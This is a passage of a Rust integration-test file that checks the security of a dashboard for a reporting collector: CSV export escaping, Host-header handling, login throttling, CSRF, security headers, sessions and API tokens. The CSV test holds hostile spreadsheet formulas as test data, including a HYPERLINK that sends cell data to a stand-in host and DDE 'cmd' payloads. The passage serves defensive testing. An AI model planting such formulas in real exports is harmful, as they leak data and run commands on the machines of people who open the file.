                            ![401, 403, 405, 500].contains(&reply.status)
                                && !reply.body.contains("rute tidak dikenal"),
                            "{context}"
                        );
                    }
                }
            }
        }
    }
    // A path in no row is 404 for everyone, under any method, before any handler runs.
    for method in methods {
        for cookie in ["", admin.as_str()] {
            let headers: Vec<(&str, &str)> = if cookie.is_empty() {
                Vec::new()
            } else {
                vec![("Cookie", cookie)]
            };
            let reply = http_call(addr, method, "/tidak-ada/sama-sekali", &headers, "").await;
            assert_eq!(reply.status, 404, "{method}");
            let reply = http_call(addr, method, "/laporan/", &headers, "").await;
            assert_eq!(reply.status, 404, "{method} /laporan/");
        }
    }
}

/// Issue 11, point 9. Cells of a CSV export that a spreadsheet would run as a formula (`=`,
/// `+`, `-`, `@`) are neutralised as OWASP recommends: a leading single quote, the field quoted.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_export_neutralises_formula_cells() {
    let (_tmp, _c, addr) = dashboard_in_tempdir().await;
    let (analyst, csrf) = dashboard_login(addr, "analis1", PASSWORD).await;
    let hostile = [
        "=HYPERLINK(\"http://jahat.example/?\"&A1,\"klik\")",
        "+62 811 aman",
        "-1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    for claim in hostile {
        let fields = [
            ("csrf", csrf.as_str()),
            ("claim", claim),
            ("url", "https://contoh.example/klaim"),
        ];
        let reply = post_form(addr, "/verifikasi", &analyst, &fields).await;
        assert_eq!(reply.status, 303, "{}", reply.body);
    }
    let csv = http_get(addr, "/api/v1/claims?format=csv", &[("Cookie", &analyst)]).await;
    assert_eq!(csv.status, 200);
    for claim in hostile {
        let quoted = format!("\"'{}\"", claim.replace('"', "\"\""));
        assert!(
            csv.body.contains(&quoted),
            "{claim} is not neutralised:\n{}",
            csv.body
        );
    }
    // No field of any line starts a formula.
    for line in csv.body.lines() {
        for field in line.split(',') {
            assert!(
                !field.starts_with(['=', '+', '@']) && !field.starts_with("-1"),
                "a formula cell: {field} in {line}"
            );
        }
    }
}

/// Issue 11, point 14. The feeds' links come from the configured `public_url` (or the
/// configured listen address), never from the request's `Host` or `X-Forwarded-Proto`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn feed_links_ignore_a_hostile_host_header() {
    let public_url = "[dashboard]\npublic_url = \"https://pasopati.contoh.go.id\"";
    let (tmp, c, addr) =
        configured_dashboard("collector", |t| t.replace("[dashboard]", public_url)).await;
    let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
    let hostile = [
        ("Cookie", viewer.as_str()),
        ("Host", "jahat.example"),
        ("X-Forwarded-Proto", "javascript"),
        ("X-Forwarded-Host", "jahat.example"),
    ];
    let json = http_call(addr, "GET", "/feed/feed.json", &hostile, "").await;
    assert_eq!(json.status, 200, "{}", json.body);
    let feed: Value = serde_json::from_str(&json.body).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(
        feed["feed_url"],
        "https://pasopati.contoh.go.id/feed/feed.json"
    );
    assert_eq!(
        feed["home_page_url"],
        "https://pasopati.contoh.go.id/publikasi"
    );
    let atom = http_call(addr, "GET", "/feed/atom.xml", &hostile, "").await;
    assert_eq!(atom.status, 200, "{}", atom.body);
    assert!(
        atom.body
            .contains("href=\"https://pasopati.contoh.go.id/feed/atom.xml\""),
        "{}",
        atom.body
    );
    for body in [&json.body, &atom.body] {
        assert!(
            !body.contains("jahat") && !body.contains("javascript"),
            "{body}"
        );
    }
    drop(c);

    // Without `public_url`, links use the configured listen address.
    let dir = tmp.path().join("tanpa-url");
    let c = collector_with_users(&dir).await;
    let addr = c.dashboard();
    let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
    let json = http_get(
        addr,
        "/feed/feed.json",
        &[("Cookie", &viewer), ("Host", "jahat.example")],
    )
    .await;
    let feed: Value = serde_json::from_str(&json.body).unwrap_or_else(|e| panic!("{e}"));
    let config =
        pasopati_collector::config::CollectorConfig::load(&dir).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(
        feed["feed_url"],
        format!("http://{}/feed/feed.json", config.http_listen)
    );
}

/// Issue 11, point 19. The dashboard's links percent-encode their query: a search for
/// `a&b#c` keeps its value through the pagination link and the CSV link.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn search_links_percent_encode_their_values() {
    let (tmp, c, addr) = dashboard_in_tempdir().await;
    let drafts = (0..3).map(|i| {
        let mut d = draft(i);
        d.body = format!("{} Kode uji a&b#c.", d.body);
        d
    });
    sync_reports(&c, &tmp.path().join("agent"), drafts.collect()).await;

    let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
    let page = http_get(addr, "/laporan?q=a%26b%23c&limit=1", &[("Cookie", &viewer)]).await;
    assert_eq!(page.status, 200);
    let href = |body: &str, label: &str| -> String {
        body.split("<a href=\"")
            .filter_map(|s| s.split_once("\">"))
            .find(|(_, rest)| rest.starts_with(label))
            .map(|(h, _)| h.replace("&amp;", "&"))
            .unwrap_or_else(|| panic!("no link {label}: {body}"))
    };
    let next = href(&page.body, "Berikutnya");
    assert!(next.contains("q=a%26b%23c"), "{next}");
    let csv = href(&page.body, "Unduh CSV");
    assert!(csv.contains("q=a%26b%23c"), "{csv}");
    // Following the link keeps the search (the form shows it again) and moves on a page.
    let second = http_get(addr, &next, &[("Cookie", &viewer)]).await;
    assert_eq!(second.status, 200);
    assert!(
        second
            .body
            .contains("name=\"q\" placeholder=\"Cari teks…\" value=\"a&amp;b#c\""),
        "{}",
        second.body
    );
    assert!(next.contains("offset=1"), "{next}");
}

/// One login attempt (with whatever extra headers), answered.
async fn login_attempt(
    addr: SocketAddr,
    username: &str,
    password: &str,
    extra: &[(&str, &str)],
) -> HttpReply {
    let (cookie, token) = dashboard_login_form(addr).await;
    let mut headers = vec![
        ("Content-Type", "application/x-www-form-urlencoded"),
        ("Cookie", cookie.as_str()),
    ];
    headers.extend_from_slice(extra);
    http_call(
        addr,
        "POST",
        "/login",
        &headers,
        &form_body(&[
            ("username", username),
            ("password", password),
            ("csrf", &token),
        ]),
    )
    .await
}

/// Issue 11, point 5. Thirty-two wrong logins sent at once: an attempt is counted before its
/// password is verified, so at most five are verified (401) and the rest are refused (429).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn parallel_wrong_logins_are_throttled_before_argon2() {
    let (_tmp, _c, addr) = dashboard_in_tempdir().await;
    let attempts: Vec<_> = (0..32)
        .map(|_| {
            tokio::spawn(async move {
                login_attempt(addr, "admin1", "salah-sekali-ya-ampun", &[])
                    .await
                    .status
            })
        })
        .collect();
    let mut statuses = Vec::new();
    for a in attempts {
        statuses.push(a.await.unwrap_or_else(|e| panic!("{e}")));
    }
    let wrong = statuses.iter().filter(|s| **s == 401).count();
    let throttled = statuses.iter().filter(|s| **s == 429).count();
    assert!(wrong <= 5, "{wrong} attempts were verified: {statuses:?}");
    assert_eq!(wrong + throttled, 32, "{statuses:?}");
    let locked = login_attempt(addr, "admin1", PASSWORD, &[]).await;
    assert_eq!(locked.status, 429);
    assert!(locked.header("retry-after").is_some());
}

/// Issue 11, point 6. The lockout is per (username, client address): wrong passwords from one
/// address do not lock the real user out at another, nor another user at the same address.
/// Behind a proxy listed in `trusted_proxies`, `X-Forwarded-For` names the client; from any
/// other peer the header is ignored (so an attacker cannot dodge the lock by writing it).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lockout_is_per_user_and_client_address() {
    let proxies = "trusted_proxies = [\"127.0.0.1\", \"::1\"]";
    let (tmp, c, addr) = configured_dashboard("di-belakang-proxy", |t| {
        t.replace("trusted_proxies = []", proxies)
    })
    .await;
    let attacker = [("X-Forwarded-For", "203.0.113.7")];
    let real_admin = [("X-Forwarded-For", "198.51.100.9")];
    for _ in 0..5 {
        let r = login_attempt(addr, "admin1", "salah-sekali-ya-ampun", &attacker).await;
        assert_eq!(r.status, 401, "{}", r.body);
    }
    assert_eq!(
        login_attempt(addr, "admin1", PASSWORD, &attacker)
            .await
            .status,
        429
    );
    // The real admin at her own address signs in.
    let real = login_attempt(addr, "admin1", PASSWORD, &real_admin).await;
    assert_eq!(real.status, 303, "{}", real.body);
    // Another user at the attacker's address is not locked either.
    let other = login_attempt(addr, "analis1", PASSWORD, &attacker).await;
    assert_eq!(other.status, 303, "{}", other.body);
    drop(c);

    // No trusted proxy (the default): the header is ignored and the peer is the client.
    let c = collector_with_users(&tmp.path().join("tanpa-proxy")).await;
    let addr = c.dashboard();
    for i in 0..5 {
        let spoofed = format!("203.0.113.{i}");
        let from = [("X-Forwarded-For", spoofed.as_str())];
        let r = login_attempt(addr, "admin1", "salah-sekali-ya-ampun", &from).await;
        assert_eq!(r.status, 401, "{}", r.body);
    }
    let r = login_attempt(addr, "admin1", PASSWORD, &real_admin).await;
    assert_eq!(r.status, 429, "{}", r.body);
}

/// Issue 11, point 16. Every answer, to every route under its method, signed in or not, and
/// refusals too, carries a Content-Security-Policy without `unsafe-inline` that forbids
/// framing, `nosniff`, a referrer policy and `Cache-Control: no-store`; pages carry no inline
/// script or style; and the login form needs its pre-session CSRF token.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_answer_has_security_headers_and_login_needs_its_csrf_token() {
    let (_tmp, _c, addr) = dashboard_in_tempdir().await;
    let (admin, _) = dashboard_login(addr, "admin1", PASSWORD).await;
    let check = |reply: &HttpReply, context: &str| {
        let csp = reply
            .header("content-security-policy")
            .unwrap_or_else(|| panic!("no CSP: {context}"));
        assert!(!csp.contains("unsafe-inline"), "{context}: {csp}");
        assert!(csp.contains("frame-ancestors 'none'"), "{context}: {csp}");
        assert!(csp.contains("default-src 'none'"), "{context}: {csp}");
        assert_eq!(
            reply.header("x-content-type-options"),
            Some("nosniff"),
            "{context}"
        );
        assert!(
            matches!(
                reply.header("referrer-policy"),
                Some("no-referrer" | "same-origin")
            ),
            "{context}"
        );
        assert_eq!(reply.header("cache-control"), Some("no-store"), "{context}");
    };
    for r in ROUTES {
        if r.path == "/api/v1/events" && r.method == "GET" {
            // The stream's headers come first; read them with a time limit.
            let reply = http_call_within(addr, "HEAD", r.path, &[("Cookie", &admin)], "")
                .await
                .unwrap_or_else(|| panic!("no answer to HEAD {}", r.path));
            check(&reply, "HEAD /api/v1/events");
            continue;
        }
        for cookie in ["", admin.as_str()] {
            let headers: Vec<(&str, &str)> = if cookie.is_empty() {
                Vec::new()
            } else {
                vec![("Cookie", cookie)]
            };
            let reply = http_call(addr, r.method, &concrete(r.path), &headers, "").await;
            let context = format!(
                "{} {} ({}): {}",
                r.method,
                r.path,
                cookie.len(),
                reply.status
            );
            check(&reply, &context);
            if reply
                .header("content-type")
                .is_some_and(|t| t.starts_with("text/html"))
            {
                let body = &reply.body;
                assert!(!body.contains("<style"), "{context}");
                assert!(!body.contains(" style="), "{context}");
                for script in body.split("<script").skip(1) {
                    assert!(script.starts_with(" src="), "inline script: {context}");
                }
            }
        }
    }
    for (method, path) in [("GET", "/tidak-ada"), ("DELETE", "/laporan")] {
        let reply = http_call(addr, method, path, &[], "").await;
        check(&reply, &format!("{method} {path}"));
    }
    // The static files are served to anyone, with their types.
    let css = http_get(addr, "/static/app.css", &[]).await;
    assert_eq!(css.status, 200);
    assert!(css
        .header("content-type")
        .is_some_and(|t| t.starts_with("text/css")));
    let js = http_get(addr, "/static/app.js", &[]).await;
    assert_eq!(js.status, 200);
    assert!(js.body.contains("EventSource"));

    // A login without the form's token, or with a token that is not its cookie's, is refused
    // before the password is looked at; with the pair it goes through.
    let form = |token: Option<&str>| {
        let mut fields = vec![("username", "admin1"), ("password", PASSWORD)];
        if let Some(t) = token {
            fields.push(("csrf", t));
        }
        form_body(&fields)
    };
    let plain = [("Content-Type", "application/x-www-form-urlencoded")];
    let refused = http_call(addr, "POST", "/login", &plain, &form(None)).await;
    assert_eq!(refused.status, 403, "{}", refused.body);
    assert!(refused
        .header("set-cookie")
        .is_none_or(|c| !c.contains("pasopati_session")));
    let (cookie, token) = dashboard_login_form(addr).await;
    let (_, other_token) = dashboard_login_form(addr).await;
    let with_cookie = [
        ("Content-Type", "application/x-www-form-urlencoded"),
        ("Cookie", cookie.as_str()),
    ];
    let no_cookie = http_call(addr, "POST", "/login", &plain, &form(Some(&token))).await;
    assert_eq!(no_cookie.status, 403);
    let mismatched = http_call(
        addr,
        "POST",
        "/login",
        &with_cookie,
        &form(Some(&other_token)),
    )
    .await;
    assert_eq!(mismatched.status, 403);
    let forged = format!("{}.00", token.split('.').next().unwrap_or_default());
    let forged_cookie = format!("pasopati_masuk={forged}");
    let forged_reply = http_call(
        addr,
        "POST",
        "/login",
        &[
            ("Content-Type", "application/x-www-form-urlencoded"),
            ("Cookie", forged_cookie.as_str()),
        ],
        &form(Some(&forged)),
    )
    .await;
    assert_eq!(forged_reply.status, 403);
    let ok = http_call(addr, "POST", "/login", &with_cookie, &form(Some(&token))).await;
    assert_eq!(ok.status, 303, "{}", ok.body);
}

/// Opens `/api/v1/events` with `credential` (a header) and returns a task that ends when the
/// server ends the stream (the connection closes), after the answer's head has arrived.
async fn open_stream(addr: SocketAddr, credential: (&str, &str)) -> tokio::task::JoinHandle<()> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut stream = tokio::net::TcpStream::connect(addr)
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let request = format!(
        "GET /api/v1/events HTTP/1.1\r\nHost: {addr}\r\n{}: {}\r\nAccept: text/event-stream\r\nConnection: close\r\n\r\n",
        credential.0, credential.1
    );
    stream
        .write_all(request.as_bytes())
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let mut head = Vec::new();
    let mut buf = [0u8; 4096];
    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
        let n = tokio::time::timeout(Duration::from_secs(5), stream.read(&mut buf))
            .await
            .unwrap_or_else(|_| panic!("no answer head"))
            .unwrap_or(0);
        assert!(n > 0, "the stream closed before its head");
        head.extend_from_slice(&buf[..n]);
    }
    assert!(
        head.starts_with(b"HTTP/1.1 200"),
        "{}",
        String::from_utf8_lossy(&head)
    );
    tokio::spawn(async move {
        let mut buf = [0u8; 4096];
        while stream.read(&mut buf).await.is_ok_and(|n| n > 0) {}
    })
}

/// Issue 11, point 7. The live event stream ends within 5 seconds of the session's logout,
/// and of its user being disabled.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn event_stream_ends_on_logout_and_disable() {
    let (_tmp, c, addr) = dashboard_in_tempdir().await;

    let (admin, csrf) = dashboard_login(addr, "admin1", PASSWORD).await;
    let stream = open_stream(addr, ("Cookie", &admin)).await;
    tokio::time::sleep(Duration::from_millis(2500)).await;
    assert!(!stream.is_finished(), "the stream ended on its own");
    let out = post_form(addr, "/logout", &admin, &[("csrf", &csrf)]).await;
    assert_eq!(out.status, 303, "{}", out.body);
    let started = Instant::now();
    tokio::time::timeout(Duration::from_secs(5), stream)
        .await
        .unwrap_or_else(|_| panic!("the stream outlived the logout by 5 s"))
        .unwrap_or_else(|e| panic!("{e}"));
    println!(
        "stream ended {} ms after logout",
        started.elapsed().as_millis()
    );

    let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
    let stream = open_stream(addr, ("Cookie", &viewer)).await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    c.store
        .disable_user("pemirsa1", "test")
        .unwrap_or_else(|e| panic!("{e}"));
    tokio::time::timeout(Duration::from_secs(5), stream)
        .await
        .unwrap_or_else(|_| panic!("the stream outlived the user's disabling by 5 s"))
        .unwrap_or_else(|e| panic!("{e}"));
}

/// Issue 11, point 17 (API tokens). Tokens carry an expiry (`--expires`, 90 days by default)
/// and are refused after it; `api-token list` shows them by id without the secret; `api-token
/// revoke ID` stops one token and leaves the others; every change is in the audit log.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn api_tokens_expire_and_are_listed_and_revoked_one_by_one() {
    let bins = bins!();
    let (_tmp, c, addr) = dashboard_in_tempdir().await;
    let d = path_str(&c.dir).to_owned();
    let create = |extra: &[&str]| api_bearer(&bins, &c.dir, "pemirsa1", extra);
    let kept = create(&[]);
    let revoked = create(&["--expires", "30d"]);
    let short = create(&["--expires", "2s"]);
    let status = |bearer: String| async move {
        http_get(addr, "/api/v1/sites", &[("Authorization", &bearer)])
            .await
            .status
    };
    for t in [&kept, &revoked, &short] {
        assert_eq!(status(t.clone()).await, 200);
    }

    let list = run_ok(&bins.collector, &["api-token", "list", "--data-dir", &d]);
    let tokens: Vec<Value> = list
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    assert_eq!(tokens.len(), 3, "{list}");
    for t in [&kept, &revoked, &short] {
        let secret = t.trim_start_matches("Bearer ");
        assert!(!list.contains(secret), "the list shows a token");
    }
    let now = pasopati_common::Timestamp::now().0;
    let expiry_in_days = |t: &Value| {
        let at = pasopati_common::Timestamp::parse_rfc3339(t["expires_at"].as_str().unwrap_or(""))
            .unwrap_or_else(|e| panic!("{e}: {t}"));
        (at.0 - now) as f64 / 86_400_000.0
    };
    let mut days: Vec<f64> = tokens.iter().map(expiry_in_days).collect();
    days.sort_by(|a, b| a.total_cmp(b));
    assert!(days[0] < 0.01, "{days:?}");
    assert!((days[1] - 30.0).abs() < 0.01, "{days:?}");
    assert!(
        (days[2] - 90.0).abs() < 0.01,
        "the default is not 90 days: {days:?}"
    );
    let id_of = |wanted: f64| {
        tokens
            .iter()
            .find(|t| (expiry_in_days(t) - wanted).abs() < 0.01)
            .and_then(|t| t["id"].as_str())
            .unwrap_or_else(|| panic!("no token expiring in {wanted} days: {list}"))
            .to_owned()
    };

    // Revoking one leaves the others working.
    let id = id_of(30.0);
    run_ok(
        &bins.collector,
        &["api-token", "revoke", "--data-dir", &d, &id],
    );
    assert_eq!(status(revoked.clone()).await, 401);
    assert_eq!(status(kept.clone()).await, 200);
    run_fail(
        &bins.collector,
        &["api-token", "revoke", "--data-dir", &d, &id],
    );
    let list = run_ok(&bins.collector, &["api-token", "list", "--data-dir", &d]);
    assert_eq!(list.lines().count(), 2, "{list}");

    // The short-lived token is refused once it has expired.
    tokio::time::sleep(Duration::from_millis(2200)).await;
    assert_eq!(status(short.clone()).await, 401);
    assert_eq!(status(kept.clone()).await, 200);

    let audit = c.store.audit_log().unwrap_or_else(|e| panic!("{e}"));
    let actions: Vec<String> = audit
        .into_iter()
        .filter_map(|(_, e)| e.ok())
        .map(|e| format!("{} {}", e.action, e.details))
        .collect();
    assert_eq!(
        actions
            .iter()
            .filter(|a| a.starts_with("api_token_create"))
            .count(),
        3
    );
    assert!(
        actions
            .iter()
            .any(|a| *a == format!("api_token_revoke id={id}")),
        "{actions:?}"
    );
}

/// Issue 12, point 17. Sessions live in the store: a session cookie still works after the
/// collector restarts on the same directory, with the same CSRF token; the store holds the
/// session id only as its SHA-256; logout and disabling the user delete the sessions; a user
/// keeps at most `MAX_SESSIONS_PER_USER`, the oldest going first.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sessions_survive_a_restart_and_logout_removes_them() {
    use pasopati_collector::store::StoredSession;
    use pasopati_collector::web::auth::MAX_SESSIONS_PER_USER;
    let tmp = tempdir();
    let dir = tmp.path().join("collector");
    let c = collector_with_users(&dir).await;
    let (cookie, csrf) = dashboard_login(c.dashboard(), "admin1", PASSWORD).await;
    let (viewer, _) = dashboard_login(c.dashboard(), "pemirsa1", PASSWORD).await;
    c.stop().await;

    let id = cookie.trim_start_matches("pasopati_session=").to_owned();
    assert_eq!(id.len(), 64, "unexpected cookie {cookie}");
    let file = pasopati_tests::store_bytes(&dir);
    assert!(
        !file.windows(id.len()).any(|w| w == id.as_bytes()),
        "the session id is stored in the clear"
    );

    let c = TestCollector::start(&dir, any_loopback_port()).await;
    let addr = c.dashboard();
    let home = http_get(addr, "/", &[("Cookie", &cookie)]).await;
    assert_eq!(home.status, 200, "the session did not survive the restart");
    assert!(home.body.contains(&csrf), "the CSRF token changed");
    assert_eq!(c.store.session_count("admin1").ok(), Some(1));

    let out = post_form(addr, "/logout", &cookie, &[("csrf", &csrf)]).await;
    assert_eq!(out.status, 303, "{}", out.body);
    let after = http_get(addr, "/", &[("Cookie", &cookie)]).await;
    assert_eq!(after.status, 303, "the cookie still works after logout");
    assert_eq!(c.store.session_count("admin1").ok(), Some(0));

    assert_eq!(
        http_get(addr, "/", &[("Cookie", &viewer)]).await.status,
        200
    );
    c.store
        .disable_user("pemirsa1", "test")
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(c.store.session_count("pemirsa1").ok(), Some(0));

    // The bound per user, at the store (each login costs an Argon2 verification).
    let now = pasopati_common::Timestamp::now().0;
    for i in 0..(MAX_SESSIONS_PER_USER as i64 + 5) {
        let session = StoredSession {
            username: "analis1".into(),
            csrf: format!("csrf-{i}"),
            created_at: now + i,
            expires_at: now + 3_600_000,
        };
        let hash = pasopati_common::sha256(&i.to_be_bytes());
        c.store
            .add_session(&hash, &session, MAX_SESSIONS_PER_USER)
            .unwrap_or_else(|e| panic!("{e}"));
    }
    assert_eq!(
        c.store.session_count("analis1").ok(),
        Some(MAX_SESSIONS_PER_USER)
    );
    let first = pasopati_common::sha256(&0i64.to_be_bytes());
    let last = pasopati_common::sha256(&(MAX_SESSIONS_PER_USER as i64 + 4).to_be_bytes());
    assert!(
        matches!(c.store.session(&first), Ok(None)),
        "the oldest stayed"
    );
    assert!(matches!(c.store.session(&last), Ok(Some(_))));
    // An expired session is void and swept at the next login.
    let expired = pasopati_common::sha256(b"expired");
    c.store
        .add_session(
            &expired,
            &StoredSession {
                username: "admin1".into(),
                csrf: "x".into(),
                created_at: now - 10,
                expires_at: now - 1,
            },
            MAX_SESSIONS_PER_USER,
        )
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(matches!(c.store.session(&expired), Ok(None)));
}

/// Sites named as the gazetteer names them (id, name, Kanwil), in WIB, WITA and WIT.
const CIPINANG: (&str, &str, &str) = ("lapas-cipinang", "Lapas Kelas I Cipinang", "DKI Jakarta");
const MAKASSAR: (&str, &str, &str) = (
    "rutan-makassar",
    "Rutan Kelas I Makassar",
    "Sulawesi Selatan",
);
const SORONG: (&str, &str, &str) = ("lapas-sorong", "Lapas Kelas IIB Sorong", "Papua Barat Daya");

/// Registers a site named as the gazetteer names it and enrolls an agent for it in `dir`;
/// returns the agent, ready to run.
/// Enrolls an agent for `lapas-uji` in `dir`, files `drafts` there, runs it until the collector
/// holds them all, and stops it; returns the filed reports.
async fn sync_reports(
    c: &TestCollector,
    dir: &std::path::Path,
    drafts: Vec<pasopati_common::ReportDraft>,
) -> Vec<pasopati_common::Report> {
    c.enroll_agent(dir, "lapas-uji").await;
    let agent = open_agent(dir);
    let filed: Vec<_> = drafts
        .into_iter()
        .map(|d| agent.file(d).unwrap_or_else(|e| panic!("{e}")))
        .collect();
    let running = run_agent(agent);
    let what = if filed.len() == 1 {
        "the report stored"
    } else {
        "the reports stored"
    };
    c.wait_for_reports(what, filed.len() as u64, Duration::from_secs(30))
        .await;
    running.stop().await;
    filed
}

/// The `<tr>` of a site on Armada.
fn armada_row(page: &str, id: &str) -> String {
    section(page, &format!("data-site=\"{id}\""), "</tr>")
}

/// Whether `text` holds a local time of the form `2026-11-02 08:15 WITA` in `zone`.
fn has_local_time(text: &str, zone: &str) -> bool {
    let bytes = text.as_bytes();
    let pattern = b"dddd-dd-dd dd:dd ";
    (0..bytes.len().saturating_sub(pattern.len())).any(|i| {
        pattern.iter().enumerate().all(|(j, p)| match p {
            b'd' => bytes[i + j].is_ascii_digit(),
            other => bytes[i + j] == *other,
        }) && text[i + pattern.len()..].starts_with(zone)
            && !text[i + pattern.len() + zone.len()..].starts_with('A')
    })
}

/// Issue 12, points 5 and 6. Armada follows the latest facts: a backlog reported before a
/// batch that was stored later is shown as stale and no longer makes the site "buffering";
/// "Sinkron terakhir" shows the last stored batch in the site's own zone (WITA for Sulawesi
/// Selatan); a site whose connection closed is offline at once (with the default
/// `offline_after` of 10 minutes). "Cabut" revokes only when the admin typed the site id,
/// checked by the server, and the revocation is audited with the dashboard user.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn armada_follows_connections_and_batches_and_revoking_needs_the_site_id() {
    let (tmp, c, addr) = dashboard_in_tempdir().await;
    let id = MAKASSAR.0;
    let agent = enroll_named(&c, &tmp.path().join("agent"), MAKASSAR).await;
    let handle = agent.handle();
    let running = run_agent(agent);
    let site = pasopati_common::SiteId::new(id).unwrap_or_else(|e| panic!("{e}"));
    // Connected first, its first heartbeat (sent at the Welcome) reporting nothing queued: an
    // agent that reported a backlog tells the center at once when it drains, which would
    // replace the heartbeat this test records below.
    eventually("the first heartbeat", Duration::from_secs(30), || {
        c.store
            .site(&site)
            .ok()
            .flatten()
            .is_some_and(|s| s.health.is_some())
    })
    .await;
    handle.file(draft(1)).unwrap_or_else(|e| panic!("{e}"));
    eventually(
        "the report stored and a heartbeat",
        Duration::from_secs(30),
        || {
            c.store
                .site(&site)
                .ok()
                .flatten()
                .is_some_and(|s| s.reports == 1 && s.health.is_some() && s.last_report_at.is_some())
        },
    )
    .await;
    let (cookie, csrf) = dashboard_login(addr, "admin1", PASSWORD).await;
    let sites_json = || async {
        let reply = http_get(addr, "/api/v1/sites", &[("Cookie", &cookie)]).await;
        let v: Value = serde_json::from_str(&reply.body).unwrap_or(Value::Null);
        v["items"]
            .as_array()
            .and_then(|a| a.iter().find(|s| s["id"] == id).cloned())
            .unwrap_or(Value::Null)
    };

    // A heartbeat claiming a growing backlog: buffering, with a fresh backlog.
    let heartbeat = |backlog| pasopati_common::frame::Heartbeat {
        agent_time: pasopati_common::Timestamp::now(),
        agent_version: "uji".into(),
        backlog,
        oldest_unsent_at: Some(pasopati_common::Timestamp::now()),
        last_sync_at: None,
        cpu_percent: 1.0,
        mem_used_bytes: 1,
        disk_free_bytes: 1 << 30,
        uptime_secs: 1,
        quota_full: false,
    };
    c.store
        .record_heartbeat(&site, &heartbeat(7), pasopati_common::Timestamp::now())
        .unwrap_or_else(|e| panic!("{e}"));
    let v = sites_json().await;
    assert_eq!(v["state"], "buffering", "{v}");
    assert_eq!(v["backlog_stale"], false, "{v}");

    // A batch stored after that heartbeat: the backlog is stale, the site online.
    tokio::time::sleep(Duration::from_millis(20)).await;
    handle.file(draft(2)).unwrap_or_else(|e| panic!("{e}"));
    eventually("the second report", Duration::from_secs(30), || {
        c.store
            .site(&site)
            .ok()
            .flatten()
            .is_some_and(|s| s.reports == 2)
    })
    .await;
    let v = sites_json().await;
    assert_eq!(v["state"], "online", "{v}");
    assert_eq!(v["backlog_stale"], true, "{v}");
    assert!(
        v["last_sync_at"]
            .as_str()
            .is_some_and(|t| t.ends_with("+08:00")),
        "{v}"
    );
    let page = http_get(addr, "/armada", &[("Cookie", &cookie)]).await;
    let row = armada_row(&page.body, id);
    assert!(row.contains("class=\"online\""), "{row}");
    assert!(row.contains("7 (usang)"), "{row}");
    assert!(has_local_time(&row, "WITA"), "no WITA sync time: {row}");
    assert!(row.contains("Rutan Kelas I Makassar"), "{row}");

    // The agent stops: offline at once, not after `offline_after` (10 minutes here).
    running.stop().await;
    let stopped = Instant::now();
    loop {
        let page = http_get(addr, "/armada", &[("Cookie", &cookie)]).await;
        if armada_row(&page.body, id).contains("class=\"offline\"") {
            break;
        }
        assert!(
            stopped.elapsed() < Duration::from_secs(5),
            "a stopped agent still shows as {}",
            armada_row(&page.body, id)
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert_eq!(sites_json().await["state"], "offline");

    // Revoking needs the site id typed; the server checks it.
    let revoke = |confirm: Option<&'static str>| {
        let cookie = cookie.clone();
        let csrf = csrf.clone();
        async move {
            let mut fields = vec![("csrf", csrf.as_str())];
            if let Some(confirm) = confirm {
                fields.push(("konfirmasi", confirm));
            }
            post_form(addr, &format!("/armada/{id}/cabut"), &cookie, &fields).await
        }
    };
    let revoked = || {
        c.store
            .site(&site)
            .ok()
            .flatten()
            .is_some_and(|s| s.revoked_at.is_some())
    };
    for confirm in [None, Some(""), Some("rutan-makasar")] {
        let reply = revoke(confirm).await;
        assert_eq!(reply.status, 400, "{confirm:?}: {}", reply.body);
        assert!(reply.body.contains("ketik id UPT"), "{}", reply.body);
        assert!(!revoked(), "revoked without confirmation {confirm:?}");
    }
    assert!(page.body.contains("name=\"konfirmasi\""));
    let reply = revoke(Some("rutan-makassar")).await;
    assert_eq!(reply.status, 303, "{}", reply.body);
    assert!(revoked());
    let audited = c
        .store
        .audit_log()
        .unwrap_or_else(|e| panic!("{e}"))
        .into_iter()
        .filter_map(|(_, e)| e.ok())
        .any(|e| e.action == "site_revoke" && e.actor == "dashboard:admin1" && e.subject == id);
    assert!(audited, "the revocation is not in the audit log");
}

/// Issue 12, points 7, 8 and 9. Every page a person reads shows local time with its zone (WIT
/// for a site in Papua Barat Daya), category labels and site names, never the ids; the JSON
/// API carries times with the site's offset; the digest chooses its Kanwil from the 38 of the
/// gazetteer; Ringkasan's top stories are media stories (none without media items), its
/// sentiment figure is the mean of the stories it lists, and an "offline 0" is not red.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pages_show_local_time_names_and_labels_and_ringkasan_agrees() {
    let (tmp, c, addr) = dashboard_in_tempdir().await;
    let agent = enroll_named(&c, &tmp.path().join("agent"), SORONG).await;
    let handle = agent.handle();
    let id = SORONG.0;
    let mut urgent = draft(1);
    urgent.category = "kejadian_menonjol".into();
    urgent.priority = Some(pasopati_common::Priority::Urgent);
    urgent.title = "Kebakaran kecil di dapur (uji zona)".into();
    let filed = handle.file(urgent).unwrap_or_else(|e| panic!("{e}"));
    let running = run_agent(agent);
    import_media_fixture(&c);
